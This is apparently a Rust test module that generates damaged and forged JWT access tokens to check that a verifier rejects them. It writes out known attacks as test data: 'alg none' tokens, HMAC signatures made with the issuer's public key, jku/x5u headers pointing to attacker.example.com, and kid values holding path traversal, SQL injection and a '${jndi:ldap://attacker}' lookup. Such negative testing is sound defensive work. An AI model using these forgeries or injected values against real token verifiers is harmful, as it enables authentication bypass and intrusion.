//! Tokens that nobody issued: good ones that were damaged, and ones that were forged.

use super::*;

/// Good ones, cut, lengthened, or with a character changed.
pub(super) fn damaged(good: &Good) -> Cases {
    let mut cases = Cases::new();
    for (name, token) in [("own", &good.own), ("outside", &good.outside)] {
        let parts: Vec<&str> = token.split('.').collect();
        for end in (1..token.len()).step_by(token.len() / 30) {
            cases.push((format!("{name}, cut at {end}"), token[..end].to_owned()));
        }
        for tail in ["x", "A", ".", "..", ".x", "=", "==", "%3D", "\"", ",", " x", "\tx", ";"] {
            cases.push((format!("{name}, followed by {tail:?}"), format!("{token}{tail}")));
        }
        for head in [".", "x", "=", "\"", "Bearer ", "{"] {
            cases.push((format!("{name}, after {head:?}"), format!("{head}{token}")));
        }
        // 64 bytes leave four bits of the last character unused: they must be zero.
        let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let place = alphabet.find(&token[token.len() - 1..]).unwrap();
        for other in (0..16).map(|low| (place & 0x30) | low).filter(|other| *other != place) {
            let last = &alphabet[other..=other];
            cases.push((
                format!("{name}, signature in another spelling"),
                format!("{}{last}", &token[..token.len() - 1]),
            ));
        }
        for at in (0..86).step_by(4) {
            let mut signature = parts[2].to_owned().into_bytes();
            signature[at] = if signature[at] == b'A' { b'B' } else { b'A' };
            let signature = String::from_utf8(signature).unwrap();
            cases
                .push((format!("{name}, signature changed at {at}"), format!("{}.{}.{signature}", parts[0], parts[1])));
        }
        for at in (0..parts[1].len()).step_by(8) {
            let mut claims = parts[1].to_owned().into_bytes();
            claims[at] = if claims[at] == b'A' { b'B' } else { b'A' };
            let claims = String::from_utf8(claims).unwrap();
            cases.push((format!("{name}, claims changed at {at}"), format!("{}.{claims}.{}", parts[0], parts[2])));
        }
        for (what, token) in [
            ("no signature", format!("{}.{}.", parts[0], parts[1])),
            ("no third part", format!("{}.{}", parts[0], parts[1])),
            ("no header", format!(".{}.{}", parts[1], parts[2])),
            ("no claims", format!("{}..{}", parts[0], parts[2])),
            ("signature twice", format!("{token}.{}", parts[2])),
            ("turned round", format!("{}.{}.{}", parts[2], parts[1], parts[0])),
            ("padded", format!("{}=.{}.{}", parts[0], parts[1], parts[2])),
            ("five parts", format!("{}.{}.{}.{}.{}", parts[0], parts[1], parts[2], parts[1], parts[2])),
            ("in base64 once more", BASE64_STANDARD_NO_PAD.encode(token)),
        ] {
            cases.push((format!("{name}, {what}"), token));
        }
    }
    let (own, outside): (Vec<&str>, Vec<&str>) = (good.own.split('.').collect(), good.outside.split('.').collect());
    for mask in 1..7_usize {
        let part = |n: usize| if mask >> n & 1 == 1 { outside[n] } else { own[n] };
        cases.push((format!("parts of two tokens, {mask}"), format!("{}.{}.{}", part(0), part(1), part(2))));
    }
    cases
}

/// Signed by somebody else, or by nobody, with headers that talk the verifier into it.
pub(super) fn forged(good: &Good) -> Cases {
    let mut cases = Cases::new();
    for (name, token, issuer_key) in [("own", &good.own, None), ("outside", &good.outside, Some(&good.signer))] {
        let parts: Vec<&str> = token.split('.').collect();
        let header: Value = serde_json::from_slice(&BASE64_URL_SAFE_NO_PAD.decode(parts[0]).unwrap()).unwrap();
        let claims = String::from_utf8(BASE64_URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap();
        let kid = header["kid"].as_str().unwrap().to_owned();
        let with = |name: &str, value: Value| {
            let mut header = header.clone();
            header[name] = value;
            header.to_string()
        };
        for alg in ["none", "None", "NONE", "nOnE", "", " none", "HS256", "null"] {
            let signed = format!("{}.{}", base64url(with("alg", alg.into())), parts[1]);
            cases.push((format!("{name}, alg {alg:?} unsigned"), format!("{signed}.")));
            cases.push((format!("{name}, alg {alg:?} as signed"), format!("{signed}.{}", parts[2])));
        }
        for alg in
            [Value::Null, 1.into(), json!(["EdDSA"]), json!({}), "eddsa".into(), "EDDSA".into(), "Ed25519".into()]
        {
            cases.push((
                format!("{name}, alg {alg}"),
                format!("{}.{}.{}", base64url(with("alg", alg)), parts[1], parts[2]),
            ));
        }
        // The public key is public: it must not serve as a secret.
        if let Some(key) = issuer_key {
            let jwk = key.jwk();
            let secrets = [
                key.public(),
                jwk.to_string().into_bytes(),
                jwk["x"].as_str().unwrap().as_bytes().to_vec(),
                BASE64_STANDARD.encode(key.public()).into_bytes(),
                Vec::new(),
                b"secret".to_vec(),
            ];
            let algorithms = [("HS256", hmac::HMAC_SHA256), ("HS384", hmac::HMAC_SHA384), ("HS512", hmac::HMAC_SHA512)];
            for (alg, algorithm) in algorithms {
                for (n, secret) in secrets.iter().enumerate() {
                    for kid in [kid.as_str(), "oct"] {
                        let header = json!({ "typ": "at+jwt", "alg": alg, "kid": kid }).to_string();
                        let signed = format!("{}.{}", base64url(header), parts[1]);
                        let tag = hmac::sign(&hmac::Key::new(algorithm, secret), signed.as_bytes());
                        cases.push((
                            format!("{name}, {alg} by secret {n} of {kid}"),
                            format!("{signed}.{}", base64url(tag)),
                        ));
                    }
                }
            }
        }
        for attacker in [Signer::ed25519(&kid), Signer::p256(&kid), Signer::rsa(&kid)] {
            let alg = attacker.alg();
            let base = json!({ "typ": "at+jwt", "alg": alg, "kid": kid });
            let signed = |header: &Value| attacker.token_of(&header.to_string(), &claims);
            cases.push((format!("{name}, by another key, {alg}"), signed(&base)));
            let jwk = attacker.jwk();
            let own = [
                ("jwk", jwk.clone()),
                ("jku", "https://attacker.example.com/keys".into()),
                ("x5u", "https://attacker.example.com/chain".into()),
                ("x5c", json!(["MIIB"])),
                ("x5t", "AAAA".into()),
                ("crit", json!(["exp"])),
                ("crit", json!([])),
                ("b64", false.into()),
                ("zip", "DEF".into()),
                ("enc", "A256GCM".into()),
                ("cty", "JWT".into()),
            ];
            for (member, value) in own {
                let mut header = base.clone();
                header[member] = value;
                cases.push((format!("{name}, {alg} with {member}"), signed(&header)));
            }
            for alg in ["EdDSA", "ES256", "ES384", "ES512", "RS256", "RS512", "PS256", "ES256K", "RSA1_5", "dir"] {
                let mut header = base.clone();
                header["alg"] = alg.into();
                cases.push((format!("{name}, signed otherwise than {alg}"), signed(&header)));
            }
        }
        let attacker = Signer::ed25519(&kid);
        for kid in [
            "",
            " ",
            "0",
            "../../../../etc/passwd",
            "/dev/null",
            "' OR '1'='1",
            "'; DROP TABLE signing_key; --",
            "k1\u{0}",
            "K1",
            "k1 ",
            "http://attacker.example.com/k1",
            "${jndi:ldap://attacker}",
            "*",
            "%",
            "enc",
            "oct",
        ] {
            let header = json!({ "typ": "at+jwt", "alg": "EdDSA", "kid": kid }).to_string();
            cases.push((format!("{name}, kid {kid:?}"), attacker.token_of(&header, &claims)));
        }
        for kid in [Value::Null, 1.into(), json!(["k1"]), json!({ "k1": 1 }), "k".repeat(201).into()] {
            cases.push((format!("{name}, kid {kid}"), attacker.token_of(&with("kid", kid), &claims)));
        }
        let nested = json!({ "typ": "at+jwt", "alg": "EdDSA", "kid": kid, "cty": "JWT" }).to_string();
        cases.push((format!("{name}, nested"), attacker.token_of(&nested, token)));
    }
    cases
}
